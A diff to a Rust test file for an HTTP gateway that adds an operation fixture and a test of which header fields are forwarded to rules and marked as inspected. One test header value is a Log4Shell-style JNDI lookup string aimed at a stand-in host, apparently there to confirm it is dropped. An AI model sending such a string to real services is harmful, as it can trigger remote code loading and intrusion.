@@ -29,6 +29,23 @@ fn valid(body: &[u8]) -> ValidRequest {
     }
 }
 
+fn operation() -> Operation {
+    Operation {
+        id: "createNote".into(),
+        method: Method::Post,
+        template: "/notes".into(),
+        segments: Vec::new(),
+        parameters: Vec::new(),
+        body: None,
+        request_shape: model::Shape::default(),
+        answers: Vec::new(),
+        is_deprecated: false,
+        summary: None,
+        security: Vec::new(),
+        bounds: model::json::Bounds::default(),
+    }
+}
+
 fn names(facts: &Facts<'_>) -> Vec<String> {
     let text = |(name, value): &(&str, Cow<'_, [u8]>)| {
         format!("{name}: {}", String::from_utf8_lossy(value))
@@ -40,7 +57,7 @@ fn names(facts: &Facts<'_>) -> Vec<String> {
 fn rules_are_told_the_request_as_it_came() {
     let asked = asked(Protocol::Http11, &[("user-agent", "curl/8")]);
     let valid = valid(b"{}");
-    let facts = Facts::all(&asked, &valid, "192.0.2.7".parse().unwrap());
+    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
     assert_eq!(facts.protocol, "HTTP/1.1");
     assert_eq!(facts.method, "POST");
     assert_eq!((facts.path, facts.query), ("/v1/notes", "tag=a%20b"));
@@ -59,7 +76,7 @@ fn rules_are_told_the_request_as_it_came() {
 fn a_length_that_http_2_has_in_its_frames_is_not_made_up() {
     let asked = asked(Protocol::Http2, &[("user-agent", "curl/8")]);
     let valid = valid(b"{}");
-    let facts = Facts::all(&asked, &valid, "192.0.2.7".parse().unwrap());
+    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
     assert_eq!(facts.protocol, "HTTP/2.0");
     assert_eq!(names(&facts), ["host: api.example", "user-agent: curl/8"]);
 }
@@ -74,6 +91,44 @@ fn a_credential_is_never_shown_to_rules() {
     ];
     let asked = asked(Protocol::Http2, &sent);
     let valid = valid(b"");
-    let facts = Facts::all(&asked, &valid, "192.0.2.7".parse().unwrap());
+    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
     assert_eq!(names(&facts), ["host: api.example", "accept: */*"]);
+}
+
+#[test]
+fn fields_that_travel_undeclared_are_shown_and_what_no_standard_knows_is_not_written() {
+    let sent = [
+        ("user-agent", "curl/8"),
+        ("accept", "text/html"),
+        ("accept", "${jndi:ldap://a.example/x}"),
+        (
+            "traceparent",
+            "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
+        ),
+        ("accept-language", "de, en;q=0.5"),
+        ("if-match", "\"opened\""),
+        ("prefer", "return=minimal"),
+        ("prefer", "respond-async"),
+        ("x-own", "stays here"),
+    ];
+    let asked = asked(Protocol::Http2, &sent);
+    let valid = valid(b"");
+    let facts = Facts::few(&asked, &valid, &operation());
+    let shown: Vec<(&str, &[u8], bool)> = facts
+        .forwarded
+        .iter()
+        .map(|(_, field, value)| (field.name, value, field.is_inspected()))
+        .collect();
+    let expected: [(&str, &[u8], bool); 5] = [
+        ("accept-language", b"de, en;q=0.5", true),
+        ("if-match", b"\"opened\"", false),
+        ("prefer", b"return=minimal, respond-async", true),
+        (
+            "traceparent",
+            b"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
+            true,
+        ),
+        ("user-agent", b"curl/8", true),
+    ];
+    assert_eq!(shown, expected);
 }
